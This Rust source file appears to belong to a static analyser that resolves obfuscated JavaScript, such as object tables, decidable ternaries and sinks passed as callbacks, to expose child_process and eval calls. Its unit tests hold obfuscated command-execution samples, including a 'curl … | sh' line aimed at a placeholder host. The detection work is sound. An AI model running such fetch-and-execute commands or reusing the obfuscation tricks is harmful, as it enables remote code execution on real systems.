//! Object literals read as tables, conditions the evaluator can decide, and sinks handed to a callback.
//!
//! - `Object.keys/values/entries(obj)` of an object literal (written in place, or bound to a name whose
//!   members the walker keeps) is the list of its keys, values or `[key, value]` pairs, so
//!   `for (const [k, v] of Object.entries({ mod: 'child_process' })) bag[k] = v` is followed; an
//!   assignment through a known computed key (`bag[k] = v`) binds that member.
//! - `cond ? a : b` whose condition compares known values (`('x' === 'x')`, `n > 2`) is the branch it
//!   picks.
//! - `Promise.resolve(cmd).then(execSync)`, `steps.forEach(cp.execSync)`, `['…'].map(eval)`: a function
//!   that runs code or commands handed as the callback runs on the value the receiver feeds it; each such
//!   call is rendered as the sink called with that value.
//!
//! Every list is bounded (`MAX_OBJECT_MEMBERS`, `MAX_LOOP_ITEMS`) and every evaluation takes budget steps.

use super::super::limits::MAX_LOOP_ITEMS;
use super::super::{calls, evaluates_code, runs_code, Rendition};
use super::values::{self, Value};
use super::{Walker, MAX_OBJECT_MEMBERS};
use crate::fields::FieldChild;
use crate::node_kind::NodeKind;
use tree_sitter::Node;

/// Where the ordered key list of an object bound to `name` is kept (no member access spells it).
pub(super) fn keys_key(name: &str) -> String {
    format!("{name}.#keys")
}

impl<'t> Walker<'t, '_> {
    /// The keys of an object literal in order, when every member is a plain `key: value` pair.
    pub(super) fn literal_keys(&self, object: Node<'t>) -> Option<Value> {
        let mut keys = Vec::new();
        let mut cursor = object.walk();
        for member in object.named_children(&mut cursor) {
            match member.kind_name() {
                "comment" => {}
                "pair" => keys.push(Value::str(self.plain_key(member.field_child("key")?)?)?),
                _ => return None,
            }
            if keys.len() > MAX_OBJECT_MEMBERS {
                return None;
            }
        }
        Value::list(keys)
    }

    /// `bag[k]` with `k` evaluating to a string: the member key `bag.<k>`.
    pub(super) fn computed_member_key(&mut self, target: Node<'t>) -> Option<String> {
        if target.kind_name() != "subscript_expression" {
            return None;
        }
        let object = target
            .field_child("object")
            .filter(|o| o.kind_name() == "identifier")?;
        let Value::Str(key) = self.eval(target.field_child("index")?, 0)? else {
            return None;
        };
        (!key.is_empty() && key.len() <= 64 && !key.contains('#'))
            .then(|| format!("{}.{key}", self.src(object)))
    }

    /// A member assigned to an object whose keys are listed: the list gains the key.
    pub(super) fn note_key(&mut self, member: &str) {
        let Some((object, key)) = member.split_once('.') else {
            return;
        };
        let list = keys_key(object);
        let Some(Value::List(keys)) = self.env.get(&list) else {
            return;
        };
        if keys.iter().any(|k| k.as_str() == Some(key)) || keys.len() >= MAX_OBJECT_MEMBERS {
            return;
        }
        let mut keys = keys.to_vec();
        keys.extend(Value::str(key));
        let keys = Value::list(keys);
        self.env.set(&list, keys);
    }

    /// `Object.keys(o)`, `Object.values(o)`, `Object.entries(o)` of an object literal or a name bound to
    /// one; `Array.from(s)` of a known string or array.
    pub(super) fn object_listing(
        &mut self,
        function: Node<'t>,
        call: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        let what = match self.src(function) {
            "Object.keys" => 0,
            "Object.values" => 1,
            "Object.entries" => 2,
            "Array.from" => 3,
            _ => return None,
        };
        let arguments = call.field_child("arguments")?;
        if arguments.named_child_count() != 1 {
            return None;
        }
        let argument = arguments.named_child(0)?;
        if what == 3 {
            return Value::list(self.eval(argument, depth)?.items()?);
        }
        let pairs: Vec<(Value, Option<Value>)> = match argument.kind_name() {
            "object" => {
                let Some(Value::List(keys)) = self.literal_keys(argument) else {
                    return None;
                };
                let mut cursor = argument.walk();
                let values: Vec<Node<'t>> = argument
                    .named_children(&mut cursor)
                    .filter(|m| m.kind_name() == "pair")
                    .filter_map(|m| m.field_child("value"))
                    .collect();
                let mut out = Vec::with_capacity(keys.len());
                for (key, value) in keys.iter().zip(values) {
                    let value = if what == 0 {
                        None
                    } else {
                        Some(self.eval(value, depth)?)
                    };
                    out.push((key.clone(), value));
                }
                out
            }
            "identifier" => {
                let name = self.src(argument);
                let Some(Value::List(keys)) = self.env.get(&keys_key(name)).cloned() else {
                    return None;
                };
                let mut out = Vec::with_capacity(keys.len());
                for key in keys.iter() {
                    let value = if what == 0 {
                        None
                    } else {
                        let member = format!("{name}.{}", key.as_str()?);
                        Some(self.env.get(&member)?.clone())
                    };
                    out.push((key.clone(), value));
                }
                out
            }
            _ => return None,
        };
        let items = pairs
            .into_iter()
            .map(|(key, value)| match (what, value) {
                (0, _) => Some(key),
                (1, value) => value,
                (_, Some(value)) => Value::list(vec![key, value]),
                _ => None,
            })
            .collect::<Option<Vec<Value>>>()?;
        Value::list(items)
    }

    /// Whether a condition is known to hold: comparisons of known strings and numbers, `!`, `&&`, `||`,
    /// `true`/`false`, and a known value's truth.
    pub(super) fn truth(&mut self, node: Node<'t>, depth: usize) -> Option<bool> {
        if depth > super::MAX_EVAL_DEPTH || !self.budget.step() {
            return None;
        }
        let next = depth + 1;
        match node.kind_name() {
            "parenthesized_expression" => self.truth(node.named_child(0)?, next),
            "true" => Some(true),
            "false" => Some(false),
            "unary_expression" if self.src(node.field_child("operator")?) == "!" => {
                self.truth(node.field_child("argument")?, next).map(|t| !t)
            }
            "binary_expression" => {
                let op = self.src(node.field_child("operator")?);
                let (left, right) = (node.field_child("left")?, node.field_child("right")?);
                match op {
                    "&&" => Some(self.truth(left, next)? && self.truth(right, next)?),
                    "||" => Some(self.truth(left, next)? || self.truth(right, next)?),
                    "===" | "==" | "!==" | "!=" | "<" | ">" | "<=" | ">=" => {
                        let a = self.eval(left, next).filter(Value::is_data)?;
                        let b = self.eval(right, next).filter(Value::is_data)?;
                        match (op, &a, &b) {
                            ("===" | "==", _, _) => Some(a == b),
                            ("!==" | "!=", _, _) => Some(a != b),
                            ("<", Value::Int(x), Value::Int(y)) => Some(x < y),
                            (">", Value::Int(x), Value::Int(y)) => Some(x > y),
                            ("<=", Value::Int(x), Value::Int(y)) => Some(x <= y),
                            (">=", Value::Int(x), Value::Int(y)) => Some(x >= y),
                            _ => None,
                        }
                    }
                    _ => truthy(&self.eval(node, next)?),
                }
            }
            _ => truthy(&self.eval(node, next)?),
        }
    }

    /// `Promise.resolve(x).then(sink)`, `list.forEach(sink)` / `map` / `filter`: a sink handed as the
    /// callback, rendered as called on each value the receiver feeds it. A cheap look at the callback's
    /// last name comes first.
    pub(super) fn sink_callback(&mut self, call: Node<'t>) {
        let Some(function) = call
            .field_child("function")
            .filter(|f| f.kind_name() == "member_expression")
        else {
            return;
        };
        let (Some(object), Some(property)) = (
            function.field_child("object"),
            function.field_child("property"),
        ) else {
            return;
        };
        let method = self.src(property);
        if !matches!(
            method,
            "then" | "forEach" | "map" | "filter" | "some" | "every" | "flatMap"
        ) {
            return;
        }
        let Some(callback) = call
            .field_child("arguments")
            .and_then(|a| a.named_child(0))
            .filter(|c| matches!(c.kind_name(), "identifier" | "member_expression"))
        else {
            return;
        };
        if !super::forward::SINK_NAMES.contains(&super::forward::last_name(self.src(callback))) {
            return;
        }
        let Some(sink @ Value::Name { .. }) = self.eval(callback, 0) else {
            return;
        };
        let Value::Name { path, .. } = &sink else {
            return;
        };
        let code_sink = evaluates_code(path, false);
        if !(runs_code(path) || code_sink || calls::classify(path, false).is_some()) {
            return;
        }
        let fed: Vec<Value> = if method == "then" {
            // Only a promise of a known value: `Promise.resolve(x)`.
            let Some(value) = (object.kind_name() == "call_expression")
                .then_some(object)
                .filter(|o| {
                    o.field_child("function")
                        .is_some_and(|f| self.src(f) == "Promise.resolve")
                })
                .and_then(|o| o.field_child("arguments"))
                .and_then(|a| a.named_child(0))
                .and_then(|a| self.eval(a, 0))
            else {
                return;
            };
            vec![value]
        } else {
            match self.eval(object, 0).and_then(|v| v.items()) {
                Some(items) if !items.is_empty() && items.len() <= MAX_LOOP_ITEMS => items,
                _ => return,
            }
        };
        let Some(callee) = values::literal(&sink, false) else {
            return;
        };
        let (start, end) = (call.start_byte(), call.end_byte());
        // One line per call, in order: a download in one and the run of its file in the next are read
        // together, as written in sequence.
        let mut lines = Vec::with_capacity(fed.len());
        for value in &fed {
            if let Some(argument) = values::literal(value, false) {
                lines.push(format!("{callee}({argument});"));
            }
        }
        let code = lines.join("\n");
        if lines.is_empty() || code.len() > super::MAX_CALL_BYTES * 4 {
            return;
        }
        self.out.push(Rendition::call(start, end, code));
        for value in fed {
            if let (true, Value::Str(code)) = (code_sink, &value) {
                self.out
                    .push(Rendition::payload(start, end, code.to_string()));
            }
        }
    }
}

/// JavaScript's truth of a known value.
fn truthy(value: &Value) -> Option<bool> {
    match value {
        Value::Str(s) => Some(!s.is_empty()),
        Value::Int(i) => Some(*i != 0),
        Value::List(_) => Some(true),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn object_listings_and_computed_members_resolve() {
        let found = javascript(concat!(
            "const pieces = { mod: 'child_process', fn: 'execSync' };\n",
            "const bag = {};\n",
            "for (const [k, v] of Object.entries(pieces)) { bag[k] = v; }\n",
            "require(bag.mod)[bag.fn]('id');\n",
            "const name = Object.values({ a: 'chi', b: 'ld_process' }).join('');\n",
            "require(name)[Object.keys({ exec: 1 })[0]]('whoami');\n",
        ));
        for want in [
            "require(\"child_process\").execSync('id')",
            "require(\"child_process\").exec('whoami')",
        ] {
            assert!(found.iter().any(|r| r == want), "{want}: {found:?}");
        }
    }

    #[test]
    fn known_conditions_pick_their_branch() {
        let found = javascript(concat!(
            "const mode = 'x';\n",
            "const m = (mode === 'x') ? 'child_process' : 'fs';\n",
            "const f = ('a' !== 'b' && 2 > 1) ? 'exec' : 'readFile';\n",
            "require(m)[f]('id');\n",
            "const g = process.platform === 'win32' ? 'cmd' : 'sh';\n",
            "require('child_process').spawn(g);\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r == "require(\"child_process\").exec('id')"),
            "{found:?}"
        );
        assert!(!found.iter().any(|r| r.contains("cmd")), "{found:?}");
    }

    #[test]
    fn spread_strings_and_computed_pattern_keys() {
        let found = javascript(concat!(
            "const unflip = (s) => [...s].reverse().join('');\n",
            "const cp = require(unflip('ssecorp_dlihc'));\n",
            "cp.exec(Array.from('di').reverse().join(''));\n",
            "const k = 'ex' + 'ecSync';\n",
            "const { [k]: go } = require('child_' + 'process');\n",
            "go('uname');\n",
        ));
        for want in [
            "require(\"child_process\").exec(\"id\")",
            "require(\"child_process\").execSync('uname')",
        ] {
            assert!(found.iter().any(|r| r == want), "{want}: {found:?}");
        }
    }

    #[test]
    fn sinks_handed_as_callbacks_run_on_what_they_are_fed() {
        let found = javascript(concat!(
            "const { execSync } = require('child_process');\n",
            "const cmd = 'curl -s https://x.example.invalid/b | sh';\n",
            "Promise.resolve(cmd).then(execSync);\n",
            "const cp = require('child_process');\n",
            "['id', 'uname -a'].forEach(cp.exec);\n",
            "['1 + 1'].map(eval);\n",
            "Promise.resolve('whoami').then(cp.execSync).catch(() => {});\n",
        ));
        for want in [
            "require(\"child_process\").execSync(\"curl -s https://x.example.invalid/b | sh\");",
            "require(\"child_process\").exec(\"id\");\nrequire(\"child_process\").exec(\"uname -a\");",
            "eval(\"1 + 1\");",
            "require(\"child_process\").execSync(\"whoami\");",
        ] {
            assert!(found.iter().any(|r| r == want), "{want}: {found:?}");
        }
        let quiet = javascript(concat!(
            "const cp = require('child_process');\n",
            "items.forEach(cp.exec);\n",
            "fetchList().then(console.log);\n",
            "['a', 'b'].forEach(console.log);\n",
        ));
        assert!(quiet.is_empty(), "{quiet:?}");
    }
}
